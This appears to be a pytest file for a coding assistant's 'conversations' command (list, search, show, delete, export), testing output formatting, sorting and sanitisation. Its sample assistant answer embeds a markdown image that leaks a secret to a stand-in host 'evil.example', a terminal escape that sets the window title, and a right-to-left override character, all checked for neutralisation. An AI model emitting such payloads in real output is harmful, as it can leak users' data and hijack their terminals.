"""`picode conversations`, run as a user runs it: as a process, on what an editor's server has kept."""

from __future__ import annotations

import asyncio
import json
import os
import sqlite3
import time
from pathlib import Path

import pexpect
import pytest
from rich.cells import cell_len

from picode.core.conversation import Turn
from picode.core.messages import Usage
from picode.io.conversations.store import SqliteConversations
from picode.io.folders import data_folder
from picode.settings.model import Conversations

from .test_commands import picode

DAY = 86_400.0


def keep(title: str, *turns: Turn, folder: str = "", days_ago: float = 0.0) -> str:
    """Keeps a conversation as an editor's server does."""

    async def hold() -> str:
        store = SqliteConversations(
            data_folder, lambda: Conversations(days=0), pytest.fail, lambda: time.time() - days_ago * DAY
        )
        name = await store.begin(title, folder, "editor")
        for turn in turns:
            await store.add(name, turn)
        store.close()
        return name

    return asyncio.run(hold())


QUESTION = Turn("user", "What does `fold` do?", command="explain")
ANSWER = Turn(
    "assistant",
    "# It folds\n\nLike **this**:\n\n```python\nfold(x)\n```\n\n![i](http://evil.example/?secret) \x1b]0;owned\x07\u202e",
    provider="ollama",
    model="qwen",
    usage=Usage(120, 30),
    cost=0.0125,
)


class TestList:
    def test_before_there_is_one_it_says_how_to_begin(self) -> None:
        done = picode("conversations", "list")
        assert (done.returncode, done.stdout) == (0, "")
        assert "picode chat" in done.stderr
        assert picode("conversations", "list", "--json").stdout == "[]\n"

    def test_the_one_changed_last_comes_first_with_its_age(self, project: Path) -> None:
        old = keep("The old one", QUESTION, days_ago=3)
        new = keep("The \x1b[31mnew\x1b[0m one", QUESTION, ANSWER, folder=str(project))
        first, second = picode("conversations", "list").stdout.splitlines()
        assert first.split("  ")[0] == new
        assert "just now" in first
        assert "2 turns" in first
        assert "$0.01" in first
        assert f"The new one  {project}" in first
        assert second.split() == [old, "3", "d", "1", "turn", "The", "old", "one"]
        assert "\x1b" not in first
        limited = picode("conversations", "list", "--limit", "1").stdout.splitlines()
        assert [row.split()[0] for row in limited] == [new]

    def test_titles_of_any_script_leave_the_columns_straight(self) -> None:
        keep("二分探索の書き方", QUESTION, folder="/one")
        keep("Binary search, again", QUESTION, folder="/two")
        rows = picode("conversations", "list").stdout.splitlines()
        assert cell_len(rows[0].partition("/")[0]) == cell_len(rows[1].partition("/")[0])

    def test_those_of_this_folder_as_json(self, project: Path) -> None:
        keep("Elsewhere", QUESTION, folder="/elsewhere")
        mine = keep("Here", QUESTION, ANSWER, folder=str(project))
        done = picode("conversations", "list", "--folder", ".", "--json", cwd=project)
        (found,) = json.loads(done.stdout)
        assert (found["id"], found["title"], found["turnCount"]) == (mine, "Here", 2)
        assert found["usage"] == {"inputTokens": 120, "outputTokens": 30, "cachedTokens": 0}

    def test_old_ones_do_not_go_because_somebody_looks(self) -> None:
        keep("Ancient", QUESTION, days_ago=400)
        assert "Ancient" in picode("conversations", "list").stdout


class TestSearch:
    def test_it_shows_where_the_words_are(self) -> None:
        keep("Another", Turn("user", "nothing of it"))
        found = keep("Parsing", Turn("user", "first line\nand here a Tokenizer() is made"))
        done = picode("conversations", "search", "tokenizer", "MADE")
        first, second = done.stdout.splitlines()
        assert first.startswith(found)
        assert second == "    and here a Tokenizer() is made"
        assert [each["id"] for each in json.loads(picode("conversations", "search", "line", "--json").stdout)] == [
            found
        ]

    def test_nothing_found(self) -> None:
        done = picode("conversations", "search", "nowhere")
        assert (done.returncode, done.stdout) == (1, "")
        assert "nowhere" in done.stderr


class TestShow:
    def test_outside_of_a_terminal_it_is_markdown(self) -> None:
        name = keep("Folding", QUESTION, ANSWER)
        done = picode("conversations", "show", name[:5])
        assert done.returncode == 0, done.stderr
        assert done.stdout.startswith("# Folding\n")
        assert "## You (/explain)\n\nWhat does `fold` do?\n" in done.stdout
        assert "```python\nfold(x)\n```" in done.stdout
        assert "\x1b" not in done.stdout
        assert "owned" not in done.stdout
        assert "\u202e" not in done.stdout

    def test_in_a_terminal_it_is_formatted_and_nothing_in_it_is_obeyed(self) -> None:
        keep("Folding", QUESTION, ANSWER)
        environ = {**os.environ, "TERM": "xterm-256color", "COLUMNS": "80"}
        shown, status = pexpect.run(
            "python -m picode conversations show last", withexitstatus=True, encoding="utf-8", env=environ, timeout=60
        )
        assert status == 0, shown
        assert "\x1b[1" in shown, "there are bold words"
        assert "**this**" not in shown
        assert "fold" in shown
        assert "␛]0;owned" in shown, "what a terminal would obey is shown"
        assert "\x1b]" not in shown, "no link is made, and no title set"

    def test_as_json(self) -> None:
        name = keep("Folding", QUESTION, ANSWER)
        found = json.loads(picode("conversations", "show", "last", "--json").stdout)
        assert (found["id"], [turn["text"] for turn in found["turns"]]) == (name, [QUESTION.text, ANSWER.text])

    @pytest.mark.parametrize("name", ["zzzzzzzz", "%", "last", ""])
    def test_one_that_is_not_there(self, name: str) -> None:
        done = picode("conversations", "show", name)
        assert (done.returncode, done.stdout) == (1, "")
        assert "There is no conversation" in done.stderr
        assert "Traceback" not in done.stderr

    def test_letters_that_several_begin_with(self) -> None:
        names = [keep(str(n), QUESTION) for n in range(20)]
        letter = next(name[0] for name in names if sum(each[0] == name[0] for each in names) > 1)
        done = picode("conversations", "show", letter)
        assert done.returncode == 1
        assert f"conversations begin with '{letter}'" in done.stderr


class TestChange:
    def test_renaming(self) -> None:
        name = keep("Old", QUESTION)
        assert picode("conversations", "rename", name[:6], "New title").stdout == f"{name} is now 'New title'.\n"
        assert "New title" in picode("conversations", "list").stdout

    def test_deleting_by_name(self) -> None:
        gone, also, stays = keep("a", QUESTION), keep("b", QUESTION), keep("c", QUESTION)
        assert picode("conversations", "delete", gone, also[:7]).stdout == "Deleted 2 conversations.\n"
        assert [row.split()[0] for row in picode("conversations", "list").stdout.splitlines()] == [stays]
        assert picode("conversations", "delete", gone).returncode == 1

    def test_deleting_what_is_old(self) -> None:
        keep("old", QUESTION, days_ago=40)
        stays = keep("young", QUESTION, days_ago=20)
        assert picode("conversations", "delete", "--older-than", "30", "--yes").stdout == "Deleted 1 conversation.\n"
        assert [row.split()[0] for row in picode("conversations", "list").stdout.splitlines()] == [stays]

    def test_deleting_all_is_asked_about(self) -> None:
        keep("a", QUESTION)
        done = picode("conversations", "delete", "--all")
        assert done.returncode == 2
        assert "--yes" in done.stderr
        child = pexpect.spawn("python -m picode conversations delete --all", encoding="utf-8", timeout=60)
        child.expect("Delete all conversations")
        child.sendline("n")
        child.expect(pexpect.EOF)
        child.close()
        assert child.exitstatus == 1
        assert len(picode("conversations", "list").stdout.splitlines()) == 1
        assert picode("conversations", "delete", "--all", "-y").stdout == "Deleted 1 conversation.\n"
        assert picode("conversations", "list").stdout == ""

    @pytest.mark.parametrize("arguments", [(), ("x", "--all"), ("--all", "--older-than", "3")])
    def test_what_to_delete_has_to_be_clear(self, arguments: tuple[str, ...]) -> None:
        assert picode("conversations", "delete", *arguments).returncode == 2


class TestExport:
    def test_to_standard_output_and_into_a_file(self, tmp_path: Path) -> None:
        name = keep("Folding ü", QUESTION, ANSWER)
        document = picode("conversations", "export", name).stdout
        assert document.startswith("# Folding ü\n")
        file = tmp_path / "notes" / "folding.md"
        done = picode("conversations", "export", name, "-o", str(file))
        assert done.stdout == f"Wrote 1 conversation to {file}.\n"
        assert file.read_text() == document
        again = picode("conversations", "export", name, "-o", str(file))
        assert again.returncode == 1
        assert "--force" in again.stderr
        assert picode("conversations", "export", name, "-o", str(file), "--force").returncode == 0

    def test_all_of_them_as_json(self, tmp_path: Path) -> None:
        names = {keep("a", QUESTION), keep("b", QUESTION, ANSWER)}
        done = picode("conversations", "export", "--all", "--format", "json", "-o", str(tmp_path / "backup"))
        assert done.returncode == 0, done.stderr
        assert {json.loads(file.read_text())["id"] for file in (tmp_path / "backup").iterdir()} == names
        assert {file.suffix for file in (tmp_path / "backup").iterdir()} == {".json"}

    @pytest.mark.parametrize("arguments", [(), ("--all",), ("last", "--all", "-o", "x"), ("last", "--format", "pdf")])
    def test_what_to_export_has_to_be_clear(self, arguments: tuple[str, ...]) -> None:
        assert picode("conversations", "export", *arguments).returncode == 2


def test_a_store_of_a_newer_release_is_told_of_and_left_alone() -> None:
    keep("a", QUESTION)
    file = data_folder() / "conversations.db"
    with sqlite3.connect(file) as connection:
        connection.execute("PRAGMA user_version = 999")
    connection.close()
    for command in (("list",), ("show", "last"), ("delete", "--all", "--yes")):
        done = picode("conversations", *command)
        assert done.returncode == 1
        assert "newer release" in done.stderr
        assert "Traceback" not in done.stderr
